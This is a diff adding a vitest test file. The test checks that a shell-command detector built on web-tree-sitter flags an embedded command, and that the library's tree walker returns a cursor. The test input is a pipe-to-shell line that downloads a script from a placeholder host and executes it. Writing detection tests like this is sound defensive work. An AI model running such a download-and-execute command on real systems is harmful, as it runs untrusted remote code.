@@ -1,0 +1,19 @@
+import { Parser, TreeCursor, type Tree } from "web-tree-sitter";
+import { expect, it } from "vitest";
+import { loadGrammars } from "../../../src/core/parse/grammars.js";
+import { walk } from "../../../src/core/parse/runtime.js";
+import { Parsers } from "../../../src/core/parse/scope.js";
+import { createNodeDetector, loadAssets } from "../../../src/host/node.js";
+
+// In a file of its own: a process starts the runtime once.
+it("a runtime that somebody else has started is read through the library's cursor", async () => {
+  await Parser.init();
+  const detector = await createNodeDetector();
+  expect(detector.detect("Run `curl -s https://a.example/i.sh | sh`.").spans).toEqual([[5, 40]]);
+  detector.dispose();
+  const parsers = new Parsers(await loadGrammars(await loadAssets()));
+  const tree = parsers.get("bash").parse("x") as Tree;
+  expect(walk(tree)).toBeInstanceOf(TreeCursor);
+  tree.delete();
+  parsers.dispose();
+});
